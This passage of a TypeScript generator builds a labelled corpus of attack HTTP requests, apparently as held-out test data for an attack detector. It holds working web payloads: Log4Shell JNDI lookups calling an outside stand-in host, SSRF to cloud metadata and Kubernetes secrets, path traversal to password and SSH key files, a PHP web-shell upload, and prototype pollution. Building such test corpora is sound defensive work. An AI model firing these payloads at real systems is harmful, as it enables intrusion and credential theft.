    ['sys lookup exfil', '${jndi:ldap://${sys:java.version}.203.0.113.9.example/a}'],
    ['iiop protocol', '${jndi:iiop://203.0.113.9/a}'],
    ['env default evasion', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9/a}'],
    ['base64 lookup', '${base64:JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ==}'],
  ],
  [
    [
      'x-api-version header',
      {
        method: 'GET',
        path: `/status/v1/incidents?${q({ limit: 10 })}`,
        headers: headers({ 'x-api-version': '${jndi:ldap://203.0.113.9/v}' }),
        body: '',
      },
    ],
    [
      'referer header',
      {
        method: 'GET',
        path: '/museum/api/exhibitions',
        headers: headers({ referer: 'https://museum.example/${jndi:rmi://203.0.113.9/r}' }),
        body: '',
      },
    ],
    [
      'url-encoded in query',
      {
        method: 'GET',
        path: '/crm/v1/leads?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fq%7D',
        headers: headers(),
        body: '',
      },
    ],
    [
      'x-forwarded-for header',
      {
        method: 'POST',
        path: '/tos/v2/gate/appointments',
        headers: jsonHeaders('application/json', { 'x-forwarded-for': '${jndi:ldap://203.0.113.9/xff}' }),
        body: JSON.stringify({ container: 'MSCU4821736' }),
      },
    ],
  ],
);

family(
  'ssrf',
  [
    ['cloud metadata', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    [
      'gcp metadata',
      'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    ],
    ['localhost admin', 'http://127.0.0.1:8080/admin/config'],
    ['decimal ip', 'http://2130706433/'],
    ['ipv6 loopback', 'http://[::1]:6379/'],
    ['gopher redis', 'gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0A'],
    ['file scheme', 'file:///etc/passwd'],
    ['userinfo confusion', 'https://cdn.sunroof.example@169.254.169.254/latest/user-data'],
    ['octal ip', 'http://0177.0.0.1/'],
    ['ipv4-mapped ipv6', 'http://[::ffff:169.254.169.254]/latest/meta-data/'],
    [
      'azure metadata',
      'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
    ],
    ['dict scheme', 'dict://127.0.0.1:11211/stats'],
    ['hex ip', 'http://0x7f000001:2375/containers/json'],
    ['kubernetes internal', 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets'],
  ],
  [
    [
      'webhook url field',
      {
        method: 'POST',
        path: '/status/v1/webhooks',
        headers: jsonHeaders(),
        body: JSON.stringify({
          url: 'http://169.254.169.254/latest/meta-data/',
          events: ['incident.created'],
        }),
      },
    ],
    [
      'avatar fetch url',
      {
        method: 'PATCH',
        path: `/choir/api/members/${int(100, 999)}`,
        headers: jsonHeaders('application/merge-patch+json'),
        body: JSON.stringify({ avatarUrl: 'http://localhost:2379/v2/keys/?recursive=true' }),
      },
    ],
    [
      'image import list',
      {
        method: 'POST',
        path: '/cards/api/listings/photos/import',
        headers: jsonHeaders(),
        body: JSON.stringify({ urls: ['https://i.imgur.com/a.jpg', 'http://10.0.0.5:9200/_cat/indices'] }),
      },
    ],
  ],
);

family(
  'path-traversal',
  [
    ['dot-dot-slash', '../../../../etc/passwd'],
    ['url-encoded', '..%2f..%2f..%2fetc%2fshadow'],
    ['double-encoded', '..%252f..%252f..%252fproc%252fself%252fenviron'],
    ['windows backslash', '..\\..\\..\\windows\\win.ini'],
    ['overlong utf8', '..%c0%af..%c0%af..%c0%afetc/passwd'],
    ['nested dotdot', '....//....//....//etc/hosts'],
    ['null byte extension bypass', '../../../etc/passwd%00.pdf'],
    ['absolute path', '/proc/self/environ'],
    ['app config', '../../../app/.env'],
    ['ssh key', '../../../../root/.ssh/id_rsa'],
    ['unicode full-width', '..／..／..／etc／passwd'],
    ['mixed separators', '..\\/..\\/..\\/etc/passwd'],
  ],
  [
    [
      'traversal in path segment',
      {
        method: 'GET',
        path: '/museum/api/audio-guide/files/..%2F..%2F..%2F..%2Fetc%2Fpasswd',
        headers: headers(),
        body: '',
      },
    ],
    [
      'traversal in download query',
      {
        method: 'GET',
        path: '/choir/api/scores/download?file=..%2F..%2F..%2Fvar%2Flib%2Fpostgresql%2F.pgpass',
        headers: headers(),
        body: '',
      },
    ],
    [
      'traversal in multipart filename',
      {
        method: 'POST',
        path: '/ortho/api/photos',
        headers: headers({ 'content-type': 'multipart/form-data; boundary=----b30x' }),
        body: '------b30x\r\nContent-Disposition: form-data; name="file"; filename="../../../../var/www/html/shell.php"\r\nContent-Type: image/jpeg\r\n\r\n<?php system($_GET["c"]); ?>\r\n------b30x--\r\n',
      },
    ],
    [
      'traversal in json-patch path',
      {
        method: 'POST',
        path: '/reviews/api/artifacts/fetch',
        headers: jsonHeaders(),
        body: JSON.stringify({
          repo: 'acme/billing-core',
          artifactPath: '../../../../../etc/kubernetes/admin.conf',
        }),
      },
    ],
  ],
);

family(
  'prototype-pollution',
  [],
  [
    [
      '__proto__ top-level',
      {
        method: 'POST',
        path: '/cards/api/listings',
        headers: jsonHeaders(),
        body: '{"title":"Pikachu","__proto__":{"isAdmin":true}}',
      },
    ],
    [
      '__proto__ nested',
      {
        method: 'PUT',
        path: `/crm/v1/proposals/${uuid()}`,
        headers: jsonHeaders(),
        body: '{"financing":{"__proto__":{"approved":true}},"priceEur":9000}',
      },
    ],
    [
      'constructor.prototype',
      {
        method: 'POST',
        path: '/choir/api/events',
        headers: jsonHeaders(),
        body: '{"title":"Evensong","constructor":{"prototype":{"role":"admin"}}}',
      },
    ],
    [
      '__proto__ in array element',
      {
        method: 'POST',
        path: '/tos/v2/events/bulk',
        headers: jsonHeaders(),
        body: '{"events":[{"type":"GATE_IN"},{"__proto__":{"polluted":"yes"}}]}',
      },
    ],
    [
      'unicode-escaped __proto__ key',
      {
        method: 'POST',
        path: '/ortho/api/appointments',
        headers: jsonHeaders(),
        body: '{"patientId":"pt_7h2K9","\\u005f\\u005fproto\\u005f\\u005f":{"isStaff":true}}',
      },
    ],
    [
      'partially escaped proto key',
      {
        method: 'POST',
        path: '/museum/api/orders',
        headers: jsonHeaders(),
        body: '{"buyer":{"__pro\\u0074o__":{"discount":100}}}',
      },
    ],
    [
      'bracket query __proto__',
      {
        method: 'GET',
        path: '/cards/api/listings?__proto__[isAdmin]=true&set=Neo',
        headers: headers(),
        body: '',
      },
    ],
    [
      'dotted query __proto__',
      { method: 'GET', path: '/status/v1/components?__proto__.admin=1', headers: headers(), body: '' },
    ],
    [
      'constructor bracket query',
      {
        method: 'GET',
        path: '/crm/v1/leads?constructor[prototype][owner]=attacker%40evil.example',
        headers: headers(),
        body: '',
      },
    ],
    [
      'url-encoded __proto__ query',
      {
        method: 'GET',
        path: '/museum/api/timeslots?%5F%5Fproto%5F%5F%5BisAdmin%5D=1',
        headers: headers(),
        body: '',
      },
    ],
    [
      'merge-patch __proto__',
      {
        method: 'PATCH',
        path: `/ortho/api/patients/${pick(PATIENTS)}`,
        headers: jsonHeaders('application/merge-patch+json'),
        body: '{"__proto__":{"role":"admin"}}',
      },
    ],
    [
      'json-patch path __proto__',
      {
        method: 'PATCH',
        path: `/choir/api/setlists/${int(1, 500)}`,
        headers: jsonHeaders('application/json-patch+json'),
        body: JSON.stringify([{ op: 'add', path: '/__proto__/isAdmin', value: true }]),
      },
    ],
    [
      'json-patch constructor path',
      {
        method: 'PATCH',
        path: `/reviews/api/suggestions/${uuid()}`,
        headers: jsonHeaders('application/json-patch+json'),
        body: JSON.stringify([{ op: 'replace', path: '/constructor/prototype/autoApprove', value: true }]),
      },
    ],
    [
      'jsonapi attributes __proto__',
      {
        method: 'POST',
        path: '/crm/jsonapi/notes',
        headers: jsonHeaders('application/vnd.api+json'),
        body: '{"data":{"type":"notes","attributes":{"body":"hi","__proto__":{"admin":true}}}}',
      },
    ],
    [
      'graphql variables __proto__',
      {
        method: 'POST',
        path: '/graphql',
        headers: jsonHeaders(),
        body: '{"query":"mutation U($i: JSON){ updateSettings(input: $i){ ok } }","variables":{"i":{"__proto__":{"isAdmin":true}}}}',
      },
    ],
    [
      'form __proto__ field',
      {
        method: 'POST',
        path: '/choir/signup',
        headers: headers({ 'content-type': 'application/x-www-form-urlencoded' }),
        body: 'name=Mia&__proto__%5Badmin%5D=1',
      },
    ],
    [
      'json-in-string __proto__',
      {
        method: 'POST',
        path: '/crm/v1/webhooks/inbound',
        headers: jsonHeaders(),
        body: JSON.stringify({ source: 'zapier', payload: '{"lead":{"__proto__":{"stage":"won"}}}' }),
      },
    ],
    [
      'base64 settings blob',
      {
        method: 'POST',
        path: '/reviews/api/bots/import',
        headers: jsonHeaders(),
        body: JSON.stringify({ encoding: 'base64', config: b64('{"__proto__":{"autoApprove":true}}') }),
      },
    ],
    [
      'constructor in nested array',
      {
        method: 'PUT',
        path: `/tos/v2/berth-plan/B07/windows/${uuid()}`,
        headers: jsonHeaders(),
        body: '{"windows":[{"constructor":{"prototype":{"cranes":99}}}]}',
      },
    ],
    [
      'ndjson __proto__ line',
      {
        method: 'POST',
        path: '/ingest/v1/events',
        headers: jsonHeaders('application/x-ndjson'),
        body: '{"ts":"2026-03-01T10:00:00Z","event":"GATE_IN"}\n{"__proto__":{"polluted":true}}\n',
      },
    ],
    [
      'deep merge __proto__ settings',
      {
        method: 'PATCH',
        path: '/status/v1/pages/acme/settings',
        headers: jsonHeaders('application/merge-patch+json'),
        body: '{"theme":{"colors":{"__proto__":{"toString":"x"}}}}',
      },
    ],
    [
      'prototype key via constructor.prototype dotted',
      {
        method: 'POST',
        path: '/cards/api/search',
        headers: jsonHeaders(),
        body: '{"filters":{"constructor.prototype.isAdmin":true}}',
      },
    ],
    [
      '__proto__ with whitespace in key escapes',
      {
        method: 'POST',
        path: '/museum/api/feedback',
        headers: jsonHeaders(),
        body: '{"rating":5,"meta":{"\\u005F\\u005F\\u0070roto__":{"verified":true}}}',
      },
    ],
    [
      'bracket query constructor prototype',
      {
        method: 'GET',
        path: '/reviews/api/rules?language=go&constructor%5Bprototype%5D%5Bseverity%5D=off',
        headers: headers(),
        body: '',
      },
    ],
    [
      '__proto__ header-driven settings',
      {
        method: 'POST',
        path: '/ortho/api/preferences',
        headers: jsonHeaders(),
        body: '{"notifications":{"sms":true},"__proto__":{"polluted":"sms-admin"}}',
      },
    ],
    [
      'Object.prototype via prototype key',
      {
        method: 'POST',
        path: '/crm/v1/site-surveys',
        headers: jsonHeaders(),
        body: '{"roof":{"constructor":{"prototype":{"approved":true}}},"mainPanelAmps":200}',
      },
    ],
    [
      'lodash set path string',
      {
        method: 'POST',
        path: '/status/v1/settings/set',
        headers: jsonHeaders(),
        body: JSON.stringify({ path: '__proto__.isAdmin', value: true }),
      },
    ],
    [
      'lodash set array path',
      {
        method: 'POST',
        path: '/cards/api/preferences/set',
        headers: jsonHeaders(),
        body: JSON.stringify({ path: ['constructor', 'prototype', 'isAdmin'], value: true }),
      },
    ],
    [
      'multipart field __proto__',
      {
        method: 'POST',
        path: '/museum/api/audio/upload',
        headers: headers({ 'content-type': 'multipart/form-data; boundary=----p30' }),
        body: '------p30\r\nContent-Disposition: form-data; name="__proto__[admin]"\r\n\r\ntrue\r\n------p30--\r\n',
      },
    ],
    [
      '__proto__ in deep nested array of objects',
      {
        method: 'POST',
        path: '/choir/api/rosters',
        headers: jsonHeaders(),
        body: '{"sections":[{"voice":"S1","members":[{"id":1,"__proto__":{"leader":true}}]}]}',
      },
    ],
  ],
);

// Every family must hold exactly 30 attacks.
function assertFamilies(): void {
  for (const f of [
    'sql',
    'nosql',
    'template',
    'command',
    'xss',
    'log4shell',
    'ssrf',
    'path-traversal',
    'prototype-pollution',
  ]) {
    const n = attacks.filter((a) => a.family === f).length;
    if (n !== 30) throw new Error(`${f} has ${n} attacks`);
  }
}
assertFamilies();

/** Held-out corpus 30: clean traffic and attacks across nine families. */
export const heldout30: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const here = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(here, 'clean-heldout30.json'), JSON.stringify(clean, null, 2) + '\n');
  writeFileSync(join(here, 'attacks-heldout30.json'), JSON.stringify(attacks, null, 2) + '\n');
  const count = (xs: CorpusRequest[], key: 'kind' | 'family'): Record<string, number> => {
    const out: Record<string, number> = {};
    for (const x of xs) out[x[key] ?? '?'] = (out[x[key] ?? '?'] ?? 0) + 1;
    return out;
  };
  console.log(`clean: ${clean.length}`, count(clean, 'kind'));
  console.log(`attacks: ${attacks.length}`, count(attacks, 'family'));
}
